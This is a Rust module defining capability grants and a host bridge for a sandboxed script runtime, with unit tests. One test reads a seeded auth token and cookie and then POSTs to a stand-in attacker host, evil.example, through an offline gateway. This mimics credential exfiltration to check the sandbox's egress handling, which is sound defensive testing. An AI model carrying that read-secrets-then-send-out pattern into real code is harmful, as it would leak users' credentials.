//! Capabilities handed to candidate code.
//!
//! Candidate code never touches Rust state directly. The engine exposes one
//! bridge function to its runtime, and every capability the runtime offers
//! (storage, cookies, network, console, dialogs) is an operation on a
//! [`CapabilityBridge`]. Which bridge, and which grants, decide what a tier
//! can reach:
//!
//! | Context | Bridge | Grants |
//! |---------|--------|--------|
//! | [`CapabilityContext::ambient`] | [`HostBridge`] over the [`HostEnvironment`] | everything |
//! | [`CapabilityContext::sealed`] | the nested context's own bridge | nothing but console and `postMessage` |

mod host;

pub use host::{
    CapabilityAccess, ConsoleEntry, EgressRequest, HostEnvironment, HostEnvironmentBuilder, NetworkGateway,
    NetworkResponse, OfflineGateway, StorageArea,
};

use crate::policy::{FramePolicy, SandboxToken};
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use std::fmt;
use std::sync::Arc;

/// Origin string of a sandboxed nested context.
pub const OPAQUE_ORIGIN: &str = "null";

/// Whether one capability is available.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Access {
    /// Calls reach the bridge
    Granted,
    /// Calls fail inside the engine and never reach the bridge
    Denied,
}

impl Access {
    fn from_bool(granted: bool) -> Self {
        if granted {
            Access::Granted
        } else {
            Access::Denied
        }
    }
}

/// What the runtime wires into the candidate's scope.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct CapabilityGrants {
    /// Origin reported by `location.origin`
    pub origin: String,
    /// `localStorage` / `sessionStorage`
    pub storage: Access,
    /// `document.cookie`
    pub cookies: Access,
    /// `fetch` / `navigator.sendBeacon`
    pub network: Access,
    /// `window.parent` / `window.top` traversal
    pub parent_document: Access,
    /// `alert` / `confirm` / `prompt`
    pub dialogs: Access,
}

impl CapabilityGrants {
    /// Everything, as the host page has it.
    pub fn ambient(origin: impl Into<String>) -> Self {
        Self {
            origin: origin.into(),
            storage: Access::Granted,
            cookies: Access::Granted,
            network: Access::Granted,
            parent_document: Access::Granted,
            dialogs: Access::Granted,
        }
    }

    /// What a sandboxed frame under `policy` gets.
    pub fn sealed(policy: &FramePolicy) -> Self {
        Self {
            origin: OPAQUE_ORIGIN.to_string(),
            storage: Access::Denied,
            cookies: Access::Denied,
            network: Access::Denied,
            parent_document: Access::Denied,
            dialogs: Access::from_bool(policy.sandbox.allows(SandboxToken::AllowModals)),
        }
    }
}

/// Error surfaced to candidate code as a thrown exception.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BridgeFault {
    /// JavaScript error name, e.g. `SecurityError`
    pub name: String,
    /// Error message
    pub message: String,
}

impl BridgeFault {
    /// Fault with the given error name.
    pub fn new(name: impl Into<String>, message: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            message: message.into(),
        }
    }

    /// `TypeError` for malformed payloads.
    pub fn type_error(message: impl Into<String>) -> Self {
        Self::new("TypeError", message)
    }

    /// Operation this bridge does not serve.
    pub fn unsupported(op: &str) -> Self {
        Self::new("NotSupportedError", format!("operation {op} is not available here"))
    }
}

impl fmt::Display for BridgeFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.name, self.message)
    }
}

/// Rust side of every capability call the runtime makes.
pub trait CapabilityBridge: Send + Sync {
    /// Serve `op` with a JSON payload.
    fn invoke(&self, op: &str, payload: Value) -> Result<Value, BridgeFault>;
}

/// Capabilities for one engine.
#[derive(Clone)]
pub struct CapabilityContext {
    /// Grants wired into the scope
    pub grants: CapabilityGrants,
    /// Where granted calls go
    pub bridge: Arc<dyn CapabilityBridge>,
    /// Also define the scope bindings on the engine's global object
    pub mirror_globals: bool,
}

impl fmt::Debug for CapabilityContext {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CapabilityContext")
            .field("grants", &self.grants)
            .field("mirror_globals", &self.mirror_globals)
            .finish_non_exhaustive()
    }
}

impl CapabilityContext {
    /// Full access to `host`, mirrored onto the global object so that
    /// indirect `eval` sees the same bindings as the compiled unit.
    pub fn ambient(host: Arc<HostEnvironment>) -> Self {
        Self {
            grants: CapabilityGrants::ambient(host.origin()),
            bridge: Arc::new(HostBridge::new(host)),
            mirror_globals: true,
        }
    }

    /// Denied context for a sandboxed frame.
    pub fn sealed(policy: &FramePolicy, bridge: Arc<dyn CapabilityBridge>) -> Self {
        Self {
            grants: CapabilityGrants::sealed(policy),
            bridge,
            mirror_globals: false,
        }
    }
}

fn str_field<'a>(payload: &'a Value, field: &str) -> Result<&'a str, BridgeFault> {
    payload
        .get(field)
        .and_then(Value::as_str)
        .ok_or_else(|| BridgeFault::type_error(format!("missing string field {field}")))
}

fn area_field(payload: &Value) -> Result<StorageArea, BridgeFault> {
    match str_field(payload, "area")? {
        "local" => Ok(StorageArea::Local),
        "session" => Ok(StorageArea::Session),
        other => Err(BridgeFault::type_error(format!("unknown storage area {other}"))),
    }
}

/// Bridge into the host page's real capabilities.
#[derive(Debug, Clone)]
pub struct HostBridge {
    host: Arc<HostEnvironment>,
}

impl HostBridge {
    /// Bridge over `host`.
    pub fn new(host: Arc<HostEnvironment>) -> Self {
        Self { host }
    }
}

impl CapabilityBridge for HostBridge {
    fn invoke(&self, op: &str, payload: Value) -> Result<Value, BridgeFault> {
        let host = &self.host;
        match op {
            "storage.get" => Ok(json!(host.storage_get(area_field(&payload)?, str_field(&payload, "key")?))),
            "storage.set" => {
                host.storage_set(
                    area_field(&payload)?,
                    str_field(&payload, "key")?,
                    str_field(&payload, "value")?,
                );
                Ok(Value::Null)
            }
            "storage.remove" => {
                host.storage_remove(area_field(&payload)?, str_field(&payload, "key")?);
                Ok(Value::Null)
            }
            "storage.clear" => {
                host.storage_clear(area_field(&payload)?);
                Ok(Value::Null)
            }
            "storage.key" => {
                let index = payload.get("index").and_then(Value::as_u64).unwrap_or(0) as usize;
                Ok(json!(host.storage_key(area_field(&payload)?, index)))
            }
            "storage.length" => Ok(json!(host.storage_len(area_field(&payload)?))),
            "cookie.get" => Ok(json!(host.cookie_read())),
            "cookie.set" => {
                host.cookie_write(str_field(&payload, "value")?);
                Ok(Value::Null)
            }
            "net.fetch" => {
                let request = EgressRequest {
                    url: str_field(&payload, "url")?.to_string(),
                    method: payload
                        .get("method")
                        .and_then(Value::as_str)
                        .unwrap_or("GET")
                        .to_ascii_uppercase(),
                    body: payload.get("body").and_then(Value::as_str).map(str::to_string),
                };
                let response = host.network_send(request);
                Ok(json!({ "status": response.status, "body": response.body }))
            }
            "console" => {
                host.console(str_field(&payload, "level")?, str_field(&payload, "message")?);
                Ok(Value::Null)
            }
            "dom.title.get" => Ok(json!(host.title())),
            "dom.title.set" => {
                host.set_title(str_field(&payload, "value")?);
                Ok(Value::Null)
            }
            "dialog" => {
                host.dialog(str_field(&payload, "kind")?, str_field(&payload, "message")?);
                Ok(Value::Null)
            }
            other => Err(BridgeFault::unsupported(other)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::SandboxAttributes;

    #[test]
    fn test_sealed_grants_deny_by_default() {
        let grants = CapabilityGrants::sealed(&FramePolicy::default());
        assert_eq!(grants.origin, "null");
        assert_eq!(grants.storage, Access::Denied);
        assert_eq!(grants.cookies, Access::Denied);
        assert_eq!(grants.network, Access::Denied);
        assert_eq!(grants.parent_document, Access::Denied);
        assert_eq!(grants.dialogs, Access::Denied);
    }

    #[test]
    fn test_modals_token_grants_dialogs() {
        let sandbox = SandboxAttributes::new([SandboxToken::AllowScripts, SandboxToken::AllowModals]).unwrap();
        let grants = CapabilityGrants::sealed(&FramePolicy::default().with_sandbox(sandbox));
        assert_eq!(grants.dialogs, Access::Granted);
        assert_eq!(grants.storage, Access::Denied);
    }

    #[test]
    fn test_grants_wire_shape() {
        let json = serde_json::to_value(CapabilityGrants::ambient("https://a.example")).unwrap();
        assert_eq!(json["parentDocument"], "granted");
        assert_eq!(json["origin"], "https://a.example");
    }

    #[test]
    fn test_host_bridge_ops() {
        let host = HostEnvironment::builder().local_item("authToken", "secret").cookie("sid", "1").build();
        let bridge = HostBridge::new(host.clone());

        let token = bridge
            .invoke("storage.get", json!({ "area": "local", "key": "authToken" }))
            .unwrap();
        assert_eq!(token, json!("secret"));
        assert_eq!(bridge.invoke("cookie.get", Value::Null).unwrap(), json!("sid=1"));

        let reply = bridge
            .invoke("net.fetch", json!({ "url": "https://evil.example", "method": "post", "body": "x" }))
            .unwrap();
        assert_eq!(reply["status"], 503);
        assert_eq!(host.egress()[0].method, "POST");
    }

    #[test]
    fn test_host_bridge_rejects_bad_payloads() {
        let bridge = HostBridge::new(HostEnvironment::builder().build());
        let fault = bridge.invoke("storage.get", json!({ "area": "attic", "key": "k" })).unwrap_err();
        assert_eq!(fault.name, "TypeError");
        let fault = bridge.invoke("parent.post", Value::Null).unwrap_err();
        assert_eq!(fault.name, "NotSupportedError");
    }
}
